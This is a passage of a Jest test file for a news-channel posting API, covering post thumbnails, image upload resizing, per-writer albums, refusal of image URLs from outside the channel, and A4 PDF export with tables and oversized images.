    const green = (await upload(id, await png(300, 200))).json.data.image_url;
    const html = (src: string) => `<p>Fuel is down this week.</p><p><img src="${src}" alt="Truck"></p>`;
    const p = (await post(id, t.contributor, { body: html(green) })).json.data;
    expect([p.thumbnail, p.thumbnail_small]).toEqual([expect.stringMatching(/thumb-.*-full\.webp$/), expect.stringMatching(/thumb-.*-small\.webp$/)]);
    const edit = (fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: fields, method: 'PUT' });
    // The same HTML again keeps them; the same image as editor state is no new first image either.
    expect((await edit({ title: 'Retitled', body: html(green) })).json.data.thumbnail).toBe(p.thumbnail);
    expect((await edit({ body: body({ type: 'paragraph', children: [{ type: 'image', src: green, altText: 'Truck' }] }) })).json.data.thumbnail).toBe(p.thumbnail);
    // HTML without an image has none left.
    expect((await edit({ body: '<p>Words only</p>' })).json.data.thumbnail).toBeNull();
  });

  it('keeps a thumbnail chosen through the API while the body changes; null goes back to the body\'s first image; an image not ours is refused', async () => {
    const id = await channel();
    const green = (await upload(id, await png(300, 200))).json.data.image_url;
    const red = (await upload(id, await png(800, 450))).json.data.image_url;
    const image = (src: string) => body({ type: 'paragraph', children: [{ type: 'image', src, altText: 'Truck', width: 720, height: 405 }] });
    const p = (await post(id, t.contributor, { thumbnail: green, body: body({ type: 'paragraph', children: [text('No image yet')] }) })).json.data;
    expect(p.thumbnail).toMatch(/thumb-.*-full\.webp$/);
    const edit = (fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: fields, method: 'PUT' });

    // The body gains a first image, then another: the chosen thumbnail stays.
    expect((await edit({ body: image(red) })).json.data.thumbnail).toBe(p.thumbnail);
    expect((await edit({ title: 'Retitled', body: image(green) })).json.data.thumbnail).toBe(p.thumbnail);

    // An address that is not one of the channel's images: 422, and nothing changes.
    const wrong = await edit({ thumbnail: 'https://elsewhere.test/truck.png' });
    expect([wrong.status, wrong.json.errors]).toEqual([422, [{ message: 'Choose a thumbnail from the images uploaded to the channel (its image_url).', field: 'thumbnail' }]]);

    // Another channel's image (even an existing one) is not this channel's: 422.
    const other = await channel();
    const foreign = (await upload(other, await png(300, 200))).json.data.image_url;
    const borrowed = await edit({ thumbnail: foreign });
    expect([borrowed.status, borrowed.json.errors[0].field]).toEqual([422, 'thumbnail']);
    expect((await post(id, t.contributor, { thumbnail: foreign })).status).toBe(422);
    // The post's own thumbnail sent back as read changes nothing.
    expect((await edit({ title: 'Saved as fetched', thumbnail: p.thumbnail })).json.data.thumbnail).toBe(p.thumbnail);

    // null: made from the body's first image again, and from then on it follows the body.
    const back = (await edit({ thumbnail: null })).json.data;
    expect(back.thumbnail).not.toBe(p.thumbnail);
    const followed = (await edit({ body: image(red) })).json.data;
    expect(followed.thumbnail).not.toBe(back.thumbnail);
  });

  it('stores an uploaded image wider than 720 px at 720 and makes two thumbnails for the post', async () => {
    const id = await channel();
    const res = await upload(id, await png(1600, 800));
    expect(res.status).toBe(200);
    expect(res.json.data).toMatchObject({ width: 720, height: 360 });
    const name = res.json.data.image_url.split('/').pop();
    const img = await call(imageRoute, { params: { name } });
    expect(img.headers.get('content-type')).toBe('image/webp');

    const p = (await post(id, t.contributor, { body: body({ type: 'paragraph', children: [{ type: 'image', src: res.json.data.image_url, altText: 'Truck', width: 720, height: 360 }] }) })).json.data;
    expect(p.thumbnail).toMatch(/thumb-.*-full\.webp$/);
    expect(p.thumbnail_small).toMatch(/thumb-.*-small\.webp$/);
    expect(p.body_html).toContain(`<img src="${res.json.data.image_url}" alt="Truck" width="720" height="360" />`);

    const bad = await upload(id, Buffer.from('not an image'));
    expect(bad.status).toBe(422);
    expect(bad.json.errors[0].message).toBe('An error ocurred uploading image.');
    expect((await upload(id, await png(10, 10), t.internal)).status).toBe(403);
  });

  it('keeps albums of uploaded images per writer', async () => {
    const id = await channel();
    const url = (await upload(id, await png(100, 100))).json.data.image_url;
    const created = await call(createAlbumRoute, { token: t.contributor, body: { name: 'Trucks', images: [url] } });
    expect(created.status).toBe(201);
    const albumId = String(created.json.data.id);
    expect((await call(getAlbumRoute, { token: t.contributor, params: { id: albumId } })).json.data.images).toEqual([url]);
    expect((await call(getAlbumRoute, { token: t.otherContributor, params: { id: albumId } })).status).toBe(404);
    expect((await call(albumsRoute, { token: t.contributor })).json.data).toHaveLength(1);
    expect((await call(createAlbumRoute, { token: t.contributor, body: { name: 'Bad', images: ['https://evil.test/x.png'] } })).status).toBe(422);
    // A name in the right form that was never uploaded names nothing: refused, saying which.
    const never = url.replace(/[^/]+$/, 'zzzzzzzz-never-uploaded.webp');
    const made = await call(createAlbumRoute, { token: t.contributor, body: { name: 'Ghost', images: [url, never] } });
    expect(made.status).toBe(422);
    expect(made.json.errors[0].message).toContain('zzzzzzzz-never-uploaded.webp');
    expect((await call(albumsRoute, { token: t.internal })).status).toBe(403);
    expect((await call(deleteAlbumRoute, { token: t.contributor, params: { id: albumId }, method: 'DELETE' })).json.data).toEqual({ deleted: true });
  });

  it('answers 404, not 500, when the album is deleted while its new images are checked (a second tab)', async () => {
    const id = await channel();
    const url = (await upload(id, await png(100, 100))).json.data.image_url;
    const albumId = String((await call(createAlbumRoute, { token: t.contributor, body: { name: 'Trucks', images: [url] } })).json.data.id);
    const stat = storage().stat.bind(storage());
    const spy = jest.spyOn(storage(), 'stat').mockImplementationOnce(async (key) => {
      expect((await call(deleteAlbumRoute, { token: t.contributor, params: { id: albumId }, method: 'DELETE' })).status).toBe(200);
      return stat(key);
    });
    try {
      const res = await call(updateAlbumRoute, { token: t.contributor, params: { id: albumId }, body: { name: 'Renamed', images: [url] } });
      expect(res.status).toBe(404);
      expect(res.json.errors[0].message).toBe('Album not found.');
    } finally {
      spy.mockRestore();
    }
  });

  it('exports a post as an A4 PDF with 1 cm margins, with its table', async () => {
    const id = await channel();
    const table = { type: 'table', children: [0, 1, 2].map((r) => ({ type: 'tablerow', children: [0, 1, 2].map((c) => cell(`R${r}C${c}`, c === 0 && r === 0 ? { colSpan: 2 } : {})).slice(0, r === 0 ? 2 : 3) })) };
    const p = (await post(id, t.contributor, { body: body({ type: 'paragraph', children: [text('Intro')] }, table) })).json.data;
    const res = await call(pdfRoute, { token: t.internal, params: { id: String(p.id) } });
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.text.startsWith('%PDF-')).toBe(true);
    const box = /\/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]/.exec(res.text)!;
    expect([Number(box[1]), Number(box[2])]).toEqual([595.28, 841.89]);
    // Every text position is at least 1 cm (28.35 pt) from the left edge, and the first line starts there.
    const xs = [...res.text.matchAll(/1 0 0 -?1 ([\d.]+) ([\d.]+) Tm/g)].map((m) => Number(m[1]));
    expect(xs.length).toBeGreaterThan(5);
    expect(Math.min(...xs)).toBeCloseTo(72 / 2.54, 1);
    expect((await call(pdfRoute, { token: t.driver, params: { id: String(p.id) } })).status).toBe(403);
  });

  it('exports a post whose image has any stored size, fitted to the page (1e300 tall answered 500)', async () => {
    const id = await channel();
    const src = (await upload(id, await png(300, 200))).json.data.image_url;
    for (const [width, height] of [[1, 1e300], [1e-300, 1e300], [1e308, 1e308], [720, 5000], [5000, 1]]) {
      const p = (await post(id, t.contributor, { body: body({ type: 'paragraph', children: [{ type: 'image', src, altText: 'Truck', width, height }] }) })).json.data;
      const res = await call(pdfRoute, { token: t.newsAdmin, params: { id: String(p.id) } });
      expect([width, height, res.status, res.headers.get('content-type')]).toEqual([width, height, 200, 'application/pdf']);
    }
  });

  it('exports the text of a post written as HTML (it has no editor state), one paragraph each', async () => {
    const id = await channel();
    const lines = async (html: string) => {
      const p = (await post(id, t.contributor, { body: html })).json.data;
      const res = await call(pdfRoute, { token: t.internal, params: { id: String(p.id) } });
      return [...res.text.matchAll(/1 0 0 -?1 ([\d.]+) ([\d.]+) Tm/g)].length;
    };
    const empty = await lines('<p></p>');
    expect(await lines('<p>One &amp; only</p><p>Two<br>lines</p><h2>Three</h2>')).toBeGreaterThanOrEqual(empty + 3);
  });
});
